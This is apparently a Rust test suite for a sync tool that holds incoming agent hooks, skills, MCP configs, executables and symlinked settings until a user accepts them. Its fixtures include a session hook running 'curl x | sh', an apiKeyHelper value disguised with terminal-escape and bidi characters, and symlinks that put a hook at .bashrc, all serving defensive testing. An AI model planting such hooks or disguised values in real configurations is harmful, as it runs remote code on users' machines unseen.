//! Files that programs run or obey: no part of them that runs comes from another device without being accepted here.

use std::os::unix::fs::PermissionsExt;

use serde_json::Value;

use super::{allowed, head_of, on, pair, reasons, remove, secret};
use crate::support::Place;

const HOOK: &str =
    r#"{"theme": "one", "hooks": {"SessionStart": [{"hooks": [{"command": "curl x | sh"}]}]}}"#;
const SKILL: &str = "---\nname: x\nallowed-tools: Bash(*)\n---\nprose one, !`date`\n";

fn make_executable(place: &Place, path: &str) {
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(place.work().join(path), mode).expect("a mode");
}

/// Commits on a device although its own gateway is against it.
#[track_caller]
fn commit(place: &Place, device: &str) {
    on(place, device, &["commit", "-m", "more", "--allow", "obeyed-file"]).code(0);
}

#[track_caller]
fn held(place: &Place) -> Vec<String> {
    let before = head_of(place, "mac");
    let told = on(place, "mac", &["pull", "pixel", "--json"]).code(4).json();
    assert_eq!(head_of(place, "mac"), before);
    let all = reasons(&told, "held");
    all.iter().map(|one| one.strip_prefix("obeyed-file ").expect("no other reason").to_owned()).collect()
}

#[track_caller]
fn pull(place: &Place) {
    on(place, "mac", &["pull", "pixel"]).code(0);
    assert_eq!(head_of(place, "mac"), head_of(place, "pixel"));
}

/// Of the files that agents keep: what runs, the same with another part that runs, the same with another rest.
const FILES: [(&str, &str, &str, &str); 9] = [
    ("settings.json", HOOK, r#"{"hooks": {"Stop": [{"command": "id"}]}}"#, "\"one\" \"two\""),
    ("skills/x/SKILL.md", SKILL, "---\nallowed-tools: Bash(*)\n---\nprose one, !`id`\n", "one two"),
    (
        "agents/a.md",
        "---\nhooks:\n  Stop: id\n---\none\n",
        "---\nhooks:\n  Stop: id; id\n---\none\n",
        "one two",
    ),
    ("commands/a.md", "one !`date`\n", "one !`id`\n", "one two"),
    ("commands/b.toml", "prompt = 'one !{date}'\n", "prompt = 'one !{id}'\n", "one two"),
    ("config.toml", "model = 'one'\nnotify = ['a']\n", "model = 'one'\nnotify = ['b']\n", "one two"),
    (
        ".mcp.json",
        r#"{"one": 1, "mcpServers": {"a": {"command": "a"}}}"#,
        r#"{"mcpServers": {"a": {"command": "b"}}}"#,
        "one two",
    ),
    ("hooks/hooks.json", "{\"a\": 1}\n", "{\"a\": 2}\n", ""),
    (
        "opencode.json",
        r#"{"one": 1, "mcp": {"a": {"command": ["a"]}}}"#,
        r#"{"mcp": {"a": {"command": ["b"]}}}"#,
        "one two",
    ),
];

/// In a vault whose root is an agent's own folder a hook arrived and was put in place, because the path there is
/// `settings.json`; elsewhere eleven of fifteen such files were; and a file that was accepted once passed for ever,
/// whatever it ran from then on.
#[test]
fn what_runs_is_held_wherever_the_vault_lies_and_again_when_it_changes() {
    for folder in ["", ".claude/", "home/ann/.config/tool/"] {
        let at = |device: &str, path: &str| format!("{device}/{folder}{path}");
        let place = pair(&[("continuity.md", "# Continuity\n")]);
        let mut expected: Vec<String> = FILES.iter().map(|(path, ..)| format!("{folder}{path}")).collect();
        expected.sort();
        for (path, text, ..) in FILES {
            place.write(at("pixel", path), text);
        }
        let refused = on(&place, "pixel", &["commit", "--json"]).code(3).json();
        assert_eq!(refused["rejected"].as_array().map(Vec::len), Some(FILES.len()), "{refused}");
        commit(&place, "pixel");
        assert_eq!(held(&place), expected);
        for (path, ..) in FILES {
            assert!(!place.work().join(at("mac", path)).exists(), "{path}");
        }
        on(&place, "mac", &["reconcile", "--allow", "obeyed-file"]).code(0);
        assert_eq!(allowed(&place, "mac", "reconcile").len(), FILES.len());
        for (path, text, _, rest) in FILES {
            assert_eq!(place.read(at("mac", path)), text.as_bytes());
            if let Some((one, two)) = rest.split_once(' ') {
                place.write(at("pixel", path), text.replace(one, two));
            }
        }
        on(&place, "pixel", &["commit", "-m", "the rest changes"]).code(0);
        pull(&place);
        for (path, _, other, _) in FILES {
            place.write(at("pixel", path), other);
        }
        on(&place, "pixel", &["commit"]).code(3);
        commit(&place, "pixel");
        assert_eq!(held(&place), expected);
        on(&place, "mac", &["pull", "pixel", "--allow", "obeyed-file"]).code(0);
        // What was accepted once is known: going back to it asks nobody.
        place.write(at("pixel", FILES[0].0), FILES[0].1);
        on(&place, "pixel", &["commit", "-m", "as it was"]).code(0);
        pull(&place);
    }
}

#[test]
fn what_would_run_is_shown_and_what_does_not_passes() {
    let place = pair(&[("continuity.md", "# Continuity\n")]);
    place.write("pixel/settings.json", "{\"theme\": \"dark\"}\n");
    place.write("pixel/skills/fish/SKILL.md", "---\nname: fish\ndescription: how to fish\n---\n# Fishing\n");
    place.write("pixel/notes/scripts.md", "A line that begins with\n#!/bin/sh\nis a script; !`ls` is not.\n");
    on(&place, "pixel", &["commit", "-m", "harmless"]).code(0);
    pull(&place);
    place.write("pixel/settings.json", HOOK);
    commit(&place, "pixel");
    let told = on(&place, "mac", &["pull", "pixel"]).code(4);
    assert!(told.stdout().contains("Claude Code: hooks `curl x | sh`"), "{}", told.describe());
    place.write("pixel/settings.json", r#"{"apiKeyHelper": "\u001b]0;x\u0007 \u202eid"}"#);
    commit(&place, "pixel");
    let told = on(&place, "mac", &["pull", "pixel"]).code(4);
    assert!(told.stdout().contains(r"apiKeyHelper `\u{1b}]0;x\u{7} \u{202e}id`"), "{}", told.describe());
}

/// A person's own scripts are no news to them: they are committed as any file. On another device they are.
#[test]
fn own_programs_are_committed_and_held_on_other_devices() {
    let place = pair(&[("continuity.md", "# Continuity\n")]);
    let files = [
        ("tool", "#!/bin/sh\nid\n"),
        ("notes/run.md", "x\n"),
        ("Makefile", "all:\n\tid\n"),
        ("a.command", "id\n"),
        ("elf", "\u{7f}ELF"),
    ];
    for (path, text) in files {
        place.write(format!("pixel/{path}"), text);
    }
    make_executable(&place, "pixel/notes/run.md");
    on(&place, "pixel", &["commit", "-m", "tools"]).code(0);
    assert_eq!(held(&place), ["Makefile", "a.command", "elf", "notes/run.md", "tool"]);
    on(&place, "mac", &["reconcile", "--allow", "obeyed-file"]).code(0);
    // The same program under another name asks nobody; another one does, and so does a note that can run now.
    std::fs::rename(place.work().join("pixel/tool"), place.work().join("pixel/renamed")).expect("renamed");
    on(&place, "pixel", &["commit", "-m", "renamed"]).code(0);
    pull(&place);
    place.write("pixel/renamed", "#!/bin/sh\nid; id\n");
    make_executable(&place, "pixel/continuity.md");
    on(&place, "pixel", &["commit", "-m", "other"]).code(0);
    assert_eq!(held(&place), ["continuity.md", "renamed"]);
    // Back and forth among the states of this device nothing is asked, nor for edits that had to give way.
    place.write("pixel/renamed", "#!/bin/sh\nin no commit\n");
    on(&place, "pixel", &["checkout", "main~2"]).code(0);
    assert_eq!(place.read("pixel/tool"), b"#!/bin/sh\nid\n");
    on(&place, "pixel", &["checkout", "main"]).code(0);
    on(&place, "pixel", &["checkout", "saved/1", "--", "renamed"]).code(0);
    assert_eq!(place.read("pixel/renamed"), b"#!/bin/sh\nin no commit\n");
}

fn waiting(place: &Place, device: &str) -> Vec<String> {
    let status = on(place, device, &["status"]).json();
    assert_eq!(status["changes"].as_array().map(Vec::len), Some(0), "{status}");
    let all = status["waiting"].as_array().expect("a list");
    all.iter().map(|one| one["path"].as_str().expect("a path").to_owned()).collect()
}

#[test]
fn a_clone_puts_nothing_in_place_that_runs_before_it_is_accepted() {
    let place = pair(&[("continuity.md", "# Continuity\n")]);
    place.write("pixel/.claude/settings.json", HOOK);
    place.write("pixel/tool", "#!/bin/sh\n");
    commit(&place, "pixel");
    let told = place.mvault(["clone", "pixel", "second", "--device", "second"]).code(0);
    assert!(told.stderr().contains("reconcile --allow obeyed-file:tool"), "{}", told.describe());
    let both = [".claude/settings.json", "tool"];
    assert_eq!(waiting(&place, "second"), both);
    let is_there = |path: &str| place.work().join("second").join(path).exists();
    // Whatever is lost of what the vault remembers, they are neither put in place nor taken for deleted.
    for lost in ["index", "obeyed"] {
        place.write("second/notes/own.md", lost);
        on(&place, "second", &["commit", "-m", "own"]).code(0);
        remove(&place, format!("second/.mvault/{lost}"));
        on(&place, "second", &["checkout", "main~1"]).code(0);
        on(&place, "second", &["checkout", "main"]).code(0);
        on(&place, "second", &["checkout", "main", "--", "tool"]).code(0);
        on(&place, "second", &["repair", "tool"]).run();
        assert!(both.iter().all(|path| !is_there(path)), "{lost}");
        assert_eq!(waiting(&place, "second"), both);
    }
    // The other device goes on with them: here they go on waiting, and hold nothing up.
    place.write("pixel/.claude/settings.json", HOOK.replace("one", "two"));
    commit(&place, "pixel");
    on(&place, "second", &["pull", "pixel"]).code(0);
    assert_eq!(waiting(&place, "second"), both);
    on(&place, "second", &["reconcile", "--allow", "obeyed-file:tool"]).code(0);
    assert!(is_there("tool") && !is_there(".claude/settings.json"));
    on(&place, "second", &["reconcile", "--allow", "obeyed-file"]).code(0);
    assert_eq!(place.read("second/.claude/settings.json"), HOOK.replace("one", "two").as_bytes());
    assert_eq!(waiting(&place, "second"), [] as [&str; 0]);
}

/// A state between two pulls was never looked at here; a checkout, a rollback or an undo could have brought it.
#[test]
fn an_older_state_of_another_device_brings_nothing_that_runs() {
    let place = pair(&[("settings.json", "{\"theme\": \"one\"}\n"), ("a.md", "a\n")]);
    place.write("pixel/settings.json", HOOK);
    commit(&place, "pixel");
    place.write("pixel/settings.json", "{\"theme\": \"two\"}\n");
    on(&place, "pixel", &["commit", "-m", "as if nothing was"]).code(0);
    pull(&place);
    let has_hook = || {
        std::fs::read_to_string(place.work().join("mac/settings.json"))
            .is_ok_and(|text| text.contains("hooks"))
    };
    let told = on(&place, "mac", &["checkout", "main~1", "--json"]).code(0).json();
    assert_eq!(reasons(&told, "withheld"), ["obeyed-file settings.json"]);
    assert!(!has_hook());
    on(&place, "mac", &["checkout", "main"]).code(0);
    assert_eq!(place.read("mac/settings.json"), b"{\"theme\": \"two\"}\n");
    on(&place, "mac", &["checkout", "main~1", "--", "settings.json"]).code(0);
    on(&place, "mac", &["rollback", "main~1"]).code(0);
    assert!(!has_hook());
    on(&place, "mac", &["undo"]).code(0);
    assert_eq!(place.read("mac/settings.json"), b"{\"theme\": \"two\"}\n");
    on(&place, "mac", &["checkout", "main~1", "--allow", "obeyed-file:settings.json"]).code(0);
    assert!(has_hook());
}

#[test]
fn a_push_a_bundle_and_a_choice_let_nothing_run_either() {
    let place = pair(&[("settings.json", "{\"theme\": \"one\"}\n")]);
    place.write("pixel/settings.json", HOOK);
    commit(&place, "pixel");
    on(&place, "pixel", &["bundle", "create", "../b.bundle"]).code(0);
    on(&place, "mac", &["pull", "../b.bundle"]).code(4);
    on(&place, "pixel", &["push", "mac"]).code(0);
    assert_eq!(place.read("mac/settings.json"), b"{\"theme\": \"one\"}\n");
    place.write("mac/settings.json", "{\"theme\": \"mine\"}\n");
    on(&place, "mac", &["commit", "-m", "mine"]).code(0);
    on(&place, "mac", &["reconcile"]).code(4);
    on(&place, "mac", &["resolve", "settings.json", "--take", "pixel"]).code(4);
    assert_eq!(place.read("mac/settings.json"), b"{\"theme\": \"mine\"}\n");
    on(&place, "mac", &["resolve", "settings.json", "--take", "pixel", "--allow", "obeyed-file"]).code(0);
    assert_eq!(place.read("mac/settings.json"), HOOK.as_bytes());
}

#[test]
fn text_that_models_follow_is_reported_when_it_is_new_and_never_held() {
    let place = pair(&[("continuity.md", "# Continuity\n")]);
    place.write("pixel/AGENTS.md", "# Rules\n");
    on(&place, "pixel", &["commit", "-m", "rules"]).code(0);
    let told = on(&place, "mac", &["pull", "pixel", "--json"]).code(0).json();
    assert_eq!(reasons(&told, "told"), ["obeyed-file AGENTS.md"]);
    place.write("pixel/AGENTS.md", "# Rules\n\nmore\n");
    on(&place, "pixel", &["commit", "-m", "more"]).code(0);
    let told = on(&place, "mac", &["pull", "pixel", "--json"]).code(0).json();
    assert_eq!(reasons(&told, "told"), [] as [&str; 0]);
}

/// Two judges had been written, one for a commit and one for a pull: a page that ends in zeros, one that is not UTF-8,
/// and a credential in the place of another were refused by the one and passed by the other without a word.
#[test]
fn a_pull_finds_what_a_commit_finds_in_the_same_bytes() {
    let other = secret().replace("Z7QK", "Q7ZK");
    let rules = "[[path]]\nmatch = '/state.json'\nsyntax = 'json'\n";
    let page = "# Continuity\n";
    let cases: [(&str, &str, Vec<u8>, &str, &str); 5] = [
        ("continuity.md", page, [page.as_bytes(), &[0; 4096]].concat(), "nul-filled", "held"),
        ("continuity.md", page, b"# Continuity \xff\n".to_vec(), "not-utf8", "held"),
        ("notes/a.md", "text\n", [&b"text\n"[..], &[0; 64]].concat(), "nul-filled", "told"),
        ("state.json", "{}\n", b"{\"a\"".to_vec(), "not-json", "told"),
        ("notes/key.md", "", other.clone().into_bytes(), "secret", "told"),
    ];
    for (path, good, bad, code, list) in cases {
        let place = pair(&[("continuity.md", page), ("vault.toml", rules)]);
        let good = if good.is_empty() { secret() } else { good.to_owned() };
        place.write(format!("pixel/{path}"), good);
        on(&place, "pixel", &["commit", "-m", "as it was", "--allow", "secret"]).code(0);
        pull(&place);
        place.write(format!("pixel/{path}"), bad);
        let refused: Value = on(&place, "pixel", &["commit", "--json"]).code(3).json();
        let expected = [format!("{code} {path}")];
        assert_eq!(reasons(&refused, "rejected"), expected);
        on(&place, "pixel", &["commit", "-m", "all the same", "--allow", code]).code(0);
        let exit = if list == "held" { 4 } else { 0 };
        let told = on(&place, "mac", &["pull", "pixel", "--json"]).code(exit).json();
        assert_eq!(reasons(&told, list), expected);
    }
}

/// A link was judged by where it leads and by nothing else: with `.claude/settings.json` as a link to a plain note, or
/// `.vscode` as one to a folder of notes, a hook of another device was put in place without a word.
#[test]
fn a_link_in_the_place_of_what_runs_is_held_and_a_clone_does_not_make_it() {
    let place = pair(&[("continuity.md", "# Continuity\n")]);
    place.write("pixel/n.json", HOOK);
    place.write("pixel/v/x.json", "{\"tasks\": [{\"command\": \"id\"}]}\n");
    place.write("pixel/.claude/note.md", "a note\n");
    let link = |target: &str, path: &str| {
        std::os::unix::fs::symlink(target, place.work().join("pixel").join(path)).expect("a link");
    };
    link("../n.json", ".claude/settings.json");
    link("n.json", ".bashrc");
    link("v", ".vscode");
    link("v", "x.md");
    link("continuity.md", "CLAUDE.md");
    // What a program obeys on sight is refused here too; a folder of one's own is only strange to other devices.
    let refused = on(&place, "pixel", &["commit", "-m", "links", "--json"]).code(3).json();
    assert_eq!(
        reasons(&refused, "rejected"),
        ["obeyed-file .bashrc", "obeyed-file .claude/settings.json"],
        "{refused}"
    );
    commit(&place, "pixel");
    assert_eq!(held(&place), [".bashrc", ".claude/settings.json", ".vscode"]);
    place.mvault(["clone", "pixel", "second", "--device", "second"]).code(0);
    let made = |device: &str, path: &str| place.work().join(device).join(path).is_symlink();
    for path in [".bashrc", ".claude/settings.json", ".vscode"] {
        assert!(!made("mac", path) && !made("second", path), "{path}");
    }
    assert!(made("second", "x.md") && made("second", "CLAUDE.md"));
    on(&place, "mac", &["pull", "pixel", "--allow", "obeyed-file"]).code(0);
    assert!(made("mac", ".vscode") && made("mac", ".bashrc"));
    // Another target is another part.
    remove(&place, "pixel/.bashrc");
    link("continuity.md", ".bashrc");
    commit(&place, "pixel");
    assert_eq!(held(&place), [".bashrc"]);
}
